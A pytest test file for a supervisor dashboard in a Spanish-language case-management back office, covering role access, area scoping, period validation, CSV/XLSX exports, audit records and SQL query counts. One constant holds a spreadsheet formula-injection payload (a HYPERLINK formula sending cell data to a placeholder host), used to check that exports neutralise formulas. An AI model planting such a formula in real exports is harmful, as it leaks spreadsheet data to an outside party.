"""The supervisor dashboard over HTTP: roles, area scoping, the period, exports, SQL count."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import event, select

from casos.auditoria import RegistroAuditoria
from casos.cumplimiento import dia_local, recalcular_dias, recalcular_pendientes
from casos.modelos import Caso, EstadoSLA
from casos.personal import Personal, RolPersonal
from casos.resumen import ResumenBandeja
from tests.casos import fabricas
from tests.soporte.personal import crear_personal, entrar_personal

URL = "/backoffice/tablero"
INYECCION = '=HYPERLINK("http://malo.example/?x="&A1,"Clic")'


def _resumen(bd: Any, caso: Caso, sla: EstadoSLA, n: int, asignado: Personal | None) -> None:
    bd.session.add(
        ResumenBandeja(
            area_id=caso.area_id,
            tipo_id=caso.tipo_id,
            estado="asignado" if asignado else "nuevo",
            sla_estado=sla.value,
            asignado_a_id=asignado.id if asignado else None,
            casos=n,
            calculado_en=datetime.now(UTC),
        )
    )


@pytest.fixture
def escenario(bd: Any) -> Iterator[dict[str, Any]]:
    """Two areas (atención, calidad) with open and resolved cases and their summaries."""
    ahora = datetime.now(UTC)
    s = bd.session
    sup = crear_personal(s, "supervisora", RolPersonal.SUPERVISOR, "atencion")
    crear_personal(s, "agente1", RolPersonal.AGENTE, "atencion")
    trabajadora = crear_personal(s, "trabajadora", RolPersonal.AGENTE, "atencion", nombre=INYECCION)
    propio = fabricas.caso(s, ahora - timedelta(days=3), descripcion="Fuga en la banqueta")
    ajeno = fabricas.caso(s, ahora - timedelta(days=3), tipo="sugerencia", descripcion="Otra")
    # One open case of atención due in two hours: about to breach.
    propio.vence_respuesta_en = propio.prioridad_en = ahora + timedelta(hours=2)
    propio.sla_estado = EstadoSLA.EN_RIESGO
    ajeno.vence_respuesta_en = ajeno.prioridad_en = ahora + timedelta(hours=1)
    s.flush()
    _resumen(bd, propio, EstadoSLA.EN_RIESGO, 7, trabajadora)
    _resumen(bd, propio, EstadoSLA.VENCIDO, 2, None)
    _resumen(bd, ajeno, EstadoSLA.VENCIDO, 913, None)
    hoy = dia_local(ahora)
    recalcular_dias(s, hoy - timedelta(days=5), hoy, ahora)
    recalcular_pendientes(s, ahora)
    s.commit()
    yield {"supervisora": sup, "propio": propio, "ajeno": ajeno, "ahora": ahora}


def test_agente_recibe_403_y_anonimo_va_a_entrar(cliente: Any, escenario: Any) -> None:
    assert cliente.get(URL).status_code == 302
    entrar_personal(cliente, "agente1")
    assert cliente.get(URL).status_code == 403
    respuesta = cliente.get(URL + "/exportar?lista=carga&formato=csv")
    assert respuesta.status_code == 403


def test_supervisora_ve_solo_sus_areas(cliente: Any, escenario: Any) -> None:
    entrar_personal(cliente, "supervisora")
    html = cliente.get(URL).get_data(as_text=True)
    assert "Tablero de supervisión" in html
    assert "Atención a Usuarios" in html
    assert "Calidad y comunicación" not in html and "913" not in html
    assert escenario["propio"].folio in html and escenario["ajeno"].folio not in html
    assert f"/backoffice/casos/{escenario['propio'].folio}" in html
    assert "Sin asignar" in html and "Casos abiertos calculados el" in html


def test_el_administrador_ve_todas_las_areas(cliente: Any, escenario: Any, bd: Any) -> None:
    crear_personal(bd.session, "jefa", RolPersonal.ADMINISTRADOR)
    entrar_personal(cliente, "jefa")
    html = cliente.get(URL).get_data(as_text=True)
    assert "Calidad y comunicación" in html and "922" in html  # 7 + 2 + 913


@pytest.mark.parametrize(
    ("desde", "hasta", "campo", "mensaje"),
    [
        ("10/11/2026", "01/11/2026", "desde", "debe ser anterior o igual"),
        ("01/01/2024", "31/12/2025", "desde", "como máximo 366 días"),
        ("ayer", "01/11/2026", "desde", "escriba la fecha como dd/mm/aaaa"),
        ("01/11/2026", "01/01/2099", "hasta", "no puede ser posterior a hoy"),
        ("01/11/2026", "", "hasta", "Hasta: escriba la fecha como dd/mm/aaaa"),
    ],
)
def test_periodo_invalido_mensaje_junto_al_campo(
    cliente: Any, escenario: Any, desde: str, hasta: str, campo: str, mensaje: str
) -> None:
    entrar_personal(cliente, "supervisora")
    respuesta = cliente.get(URL, query_string={"desde": desde, "hasta": hasta})
    html = respuesta.get_data(as_text=True)
    assert respuesta.status_code == 400
    assert f'id="{campo}-error"' in html and mensaje in html
    assert f'value="{desde}"' in html  # what was typed stays


def test_periodo_valido_y_sin_casos(cliente: Any, escenario: Any) -> None:
    entrar_personal(cliente, "supervisora")
    respuesta = cliente.get(URL, query_string={"desde": "01/01/2026", "hasta": "31/01/2026"})
    html = respuesta.get_data(as_text=True)
    assert respuesta.status_code == 200
    assert "Sin casos" in html and "0.0 %" not in html
    assert "01/01/2026 a 31/01/2026" in html


def _exportar(cliente: Any, lista: str, formato: str) -> Any:
    respuesta = cliente.get(URL + "/exportar", query_string={"lista": lista, "formato": formato})
    assert respuesta.status_code == 200, respuesta.get_data(as_text=True)
    return respuesta


def test_exportar_csv_neutraliza_formulas_y_audita(cliente: Any, escenario: Any, bd: Any) -> None:
    entrar_personal(cliente, "supervisora")
    respuesta = _exportar(cliente, "carga", "csv")
    assert respuesta.mimetype == "text/csv"
    assert "attachment" in respuesta.headers["Content-Disposition"]
    filas = list(csv.reader(io.StringIO(respuesta.get_data(as_text=True).lstrip("\ufeff"))))
    assert filas[0] == ["Persona", "Casos abiertos", "En riesgo", "Vencidos"]
    assert ["'" + INYECCION, "7", "7", "0"] in filas
    assert not any(celda.startswith("=") for fila in filas for celda in fila)
    registro = bd.session.scalar(
        select(RegistroAuditoria).where(RegistroAuditoria.objeto == "tablero")
    )
    assert registro is not None and registro.objeto_id == "carga"
    assert registro.detalle["formato"] == "csv" and registro.actor_nombre.startswith("Supervisora")


def test_exportar_xlsx_numeros_como_numeros(cliente: Any, escenario: Any) -> None:
    entrar_personal(cliente, "supervisora")
    for lista in ("cumplimiento", "abiertos", "carga", "por_vencer", "semanas", "tendencia"):
        respuesta = _exportar(cliente, lista, "xlsx")
        libro = load_workbook(io.BytesIO(respuesta.get_data()))
        filas = list(libro.active.iter_rows(values_only=True))
        assert filas[0][0], lista
        if lista == "abiertos":
            total = next(f for f in filas if f[0] == "Total")
            assert total[2:] == (9, 7, 2) and isinstance(total[2], int)
            assert not any("Calidad" in str(c) for f in filas for c in f)
        if lista == "carga":
            assert ("'" + INYECCION, 7, 7, 0) in filas
        if lista == "por_vencer":
            assert filas[1][0] == escenario["propio"].folio and isinstance(filas[1][6], datetime)
        if lista == "cumplimiento":
            total = next(f for f in filas if f[0] == "Total")
            assert total[2] == 1 and isinstance(total[2], int)  # one case received (atención)


def test_exportar_rechaza_lista_o_periodo_invalidos(cliente: Any, escenario: Any) -> None:
    entrar_personal(cliente, "supervisora")
    url = URL + "/exportar"
    assert cliente.get(url, query_string={"lista": "todo", "formato": "csv"}).status_code == 404
    assert cliente.get(url, query_string={"lista": "carga", "formato": "pdf"}).status_code == 404
    malo = {"lista": "carga", "formato": "csv", "desde": "31/12/2026", "hasta": "01/01/2026"}
    assert cliente.get(url, query_string=malo).status_code == 400


def test_sentencias_sql_por_carga_acotadas(cliente: Any, escenario: Any, bd: Any) -> None:
    entrar_personal(cliente, "supervisora")
    cliente.get(URL)
    hoy = dia_local(datetime.now(UTC))
    anio = {"desde": f"{hoy - timedelta(days=365):%d/%m/%Y}", "hasta": f"{hoy:%d/%m/%Y}"}
    sentencias: list[str] = []

    def contar(_con: Any, _cur: Any, sql: str, *_: Any) -> None:
        sentencias.append(sql)

    motor = bd.session.get_bind()
    event.listen(motor, "before_cursor_execute", contar)
    try:
        assert cliente.get(URL, query_string=anio).status_code == 200
    finally:
        event.remove(motor, "before_cursor_execute", contar)
    consultas = [
        s
        for s in sentencias
        if not s.lstrip().upper().startswith(("SAVEPOINT", "RELEASE", "ROLLBACK"))
    ]
    # sign-in session + staff member, 2 catalogs, summary, staff names, compliance, trend,
    # ageing, non-working days, types (risk window), cases about to breach.
    assert len(consultas) <= 13, consultas  # 13 measured (SQLite and PostgreSQL)
    casos_sql = [s for s in consultas if "FROM casos" in s]
    assert len(casos_sql) == 1 and "prioridad_en" in casos_sql[0] and "LIMIT" in casos_sql[0]


def test_cifras_reutilizadas_unos_segundos_por_proceso(
    cliente: Any, escenario: Any, bd: Any, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.backoffice import tablero as vista

    monkeypatch.setitem(app.config, "TABLERO_SEGUNDOS_CACHE", 30)
    monkeypatch.setattr(vista, "_memoria", {})
    entrar_personal(cliente, "supervisora")
    assert cliente.get(URL).status_code == 200
    sentencias: list[str] = []

    def contar(_con: Any, _cur: Any, sql: str, *_: Any) -> None:
        sentencias.append(sql)

    motor = bd.session.get_bind()
    event.listen(motor, "before_cursor_execute", contar)
    try:
        html = cliente.get(URL).get_data(as_text=True)
    finally:
        event.remove(motor, "before_cursor_execute", contar)
    assert not [s for s in sentencias if "FROM casos" in s or "cumplimiento_diario" in s]
    assert "más urgentes (máximo 100), al " in html
    monkeypatch.setattr(vista.time, "monotonic", lambda: 10**9)  # the figures grow old
    sentencias.clear()
    event.listen(motor, "before_cursor_execute", contar)
    try:
        cliente.get(URL)
    finally:
        event.remove(motor, "before_cursor_execute", contar)
    assert [s for s in sentencias if "FROM casos" in s]
